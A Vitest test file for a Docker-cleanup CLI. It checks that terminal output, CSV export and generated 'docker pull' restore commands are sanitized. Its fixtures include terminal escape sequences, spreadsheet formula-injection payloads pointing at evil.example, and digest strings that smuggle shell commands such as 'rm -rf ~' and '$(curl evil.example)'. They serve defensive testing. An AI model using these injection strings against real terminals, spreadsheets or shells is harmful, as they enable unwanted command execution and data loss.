import { describe, expect, it } from 'vitest'
import { reportError } from '../../src/cli/errors'
import { printFacts } from '../../src/cli/io'
import { renderTable } from '../../src/cli/table'
import { DrydockError } from '../../src/shared/errors'
import { restoreCommand, runsToCsv, type RunDetail } from '../../src/shared/history'
import { forCsv, forTerminal } from '../../src/shared/sanitize'
import { recordingIo } from '../support/cli-io'

/** Anything a terminal would act on rather than print. */
// eslint-disable-next-line no-control-regex
const TERMINAL_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/

const HOSTILE = [
  'web:1\u001b[2J\u001b[H', // clear the screen
  'web:2\u001b]0;owned\u0007', // set the window title
  'web:3\u001b]8;;https://evil.example\u001b\\link\u001b]8;;\u001b\\', // a hyperlink
  'web:4\u009b31m', // 8-bit CSI
  'web:5\rfake line', // overwrite the line
  'web:6\u0000\u0008\u007f', // NUL, backspace, DEL
  'web:7\u202eexe.txt', // right-to-left override
  'web:8\u001bP+q\u001b\\', // DCS
]

describe('forTerminal', () => {
  it.each(HOSTILE)('leaves no control characters or escape sequences in %j', (text) => {
    const clean = forTerminal(text)
    expect(clean).not.toMatch(TERMINAL_CONTROL)
    expect(clean).not.toContain('\n')
    expect(clean.startsWith('web:')).toBe(true)
  })

  it('keeps the printable text, including non-ASCII', () => {
    expect(forTerminal('web:1\u001b[31m red\u001b[0m')).toBe('web:1 red')
    expect(forTerminal('café/ünïcode:1 ✓')).toBe('café/ünïcode:1 ✓')
    expect(forTerminal('a\tb')).toBe('a b')
  })

  it('keeps line breaks only when asked', () => {
    expect(forTerminal('one\r\ntwo\nthree')).toBe('one two three')
    expect(forTerminal('one\r\ntwo\rthree', { newlines: true })).toBe('one\ntwo\nthree')
  })
})

describe('forCsv', () => {
  it.each([
    ['=HYPERLINK("https://evil.example","x")', `'=HYPERLINK("https://evil.example","x")`],
    ['+1+cmd|calc', `'+1+cmd|calc`],
    ['-2+3', `'-2+3`],
    ['@SUM(A1)', `'@SUM(A1)`],
    ['\t=1', `'\t=1`],
    ['\r=1', `'\r=1`],
    ['\u001b[0m=1+1', `'=1+1`],
  ])('neutralizes the formula %j', (cell, expected) => {
    expect(forCsv(cell)).toBe(expected)
  })

  it('leaves ordinary cells alone', () => {
    expect(forCsv('web:1')).toBe('web:1')
    expect(forCsv('conflict: image is in use\nby a container')).toBe(
      'conflict: image is in use\nby a container',
    )
  })
})

describe('the CLI prints engine text sanitized', () => {
  it('in tables', () => {
    const table = renderTable(HOSTILE, [{ header: 'TAG', value: (tag) => tag }])
    for (const line of table.trimEnd().split('\n')) expect(line).not.toMatch(TERMINAL_CONTROL)
    expect(table.trimEnd().split('\n')).toHaveLength(HOSTILE.length + 1)
  })

  it('in facts', () => {
    const io = recordingIo()
    printFacts(io, [['OS', 'Linux\u001b]0;owned\u0007\u001b[2J']])
    expect(io.out()).toBe('OS  Linux\n')
  })

  it('in error messages', () => {
    const io = recordingIo()
    reportError(
      io,
      new DrydockError('engine-unreachable', 'no such image\u001b[2K\rdeleted everything'),
    )
    expect(io.err()).toBe('drydock: no such image deleted everything\n')
  })
})

function runWith(item: { tags: string[]; digests: string[]; error: string | null }): RunDetail {
  return {
    id: 'run-1',
    startedAt: '2024-05-01T10:00:00.000Z',
    finishedAt: '2024-05-01T10:00:01.000Z',
    trigger: 'cli',
    mode: 'safe',
    selection: {},
    engineHost: 'unix:///var/run/docker.sock',
    engineId: null,
    status: 'done',
    predictedBytes: 1,
    reclaimedBytes: 1,
    itemCount: 1,
    error: null,
    items: [
      {
        seq: 0,
        kind: 'image',
        id: 'sha256:abc',
        name: '',
        predictedAction: 'delete',
        predictedBytes: 1,
        outcome: 'deleted',
        reclaimedBytes: 1,
        finishedAt: null,
        ...item,
      },
    ],
  }
}

describe('runsToCsv', () => {
  it('neutralizes formulas and control characters in engine text', () => {
    const csv = runsToCsv([
      runWith({
        tags: ['=cmd|"/c calc"!A1'],
        digests: [],
        error: '@SUM(1)\u001b[2J',
      }),
    ])
    const row = csv.split('\r\n')[1]!
    expect(row).toContain(`"'=cmd|""/c calc""!A1"`)
    expect(row).toContain(`,'@SUM(1)`)
    expect(row).not.toMatch(TERMINAL_CONTROL)
  })
})

describe('restoreCommand', () => {
  const hex = 'a'.repeat(64)
  const restore = (digest: string) => restoreCommand({ digests: [digest], outcome: 'deleted' })

  it.each([
    `nginx@sha256:${hex}`,
    `library/nginx@sha256:${hex}`,
    `ghcr.io/acme/web-app@sha256:${hex}`,
    `registry.example:5000/team/app_1@sha256:${hex}`,
    `localhost:5000/a__b/c--d@sha256:${hex}`,
  ])('gives the pull command for %s', (digest) => {
    expect(restore(digest)).toBe(`docker pull ${digest}`)
  })

  it.each([
    `web@sha256:${hex}; rm -rf ~`,
    `$(curl evil.example)@sha256:${hex}`,
    `web\`id\`@sha256:${hex}`,
    `web@sha256:${hex}\n`,
    `web@sha256:${hex}\u001b[2J`,
    `-oProxyCommand=x@sha256:${hex}`,
    `Web@sha256:${hex}`,
    `web@sha256:${hex.slice(1)}`,
    `web@sha512:${hex}${hex}`,
    `web:latest`,
    `web@sha256:${hex} && id`,
    `registry.example:port/web@sha256:${hex}`,
  ])('gives none for %j', (digest) => {
    expect(restore(digest)).toBeNull()
  })

  it('takes the first well-formed digest', () => {
    expect(
      restoreCommand({
        digests: [`x;id@sha256:${hex}`, `web@sha256:${hex}`],
        outcome: 'untagged',
      }),
    ).toBe(`docker pull web@sha256:${hex}`)
  })
})
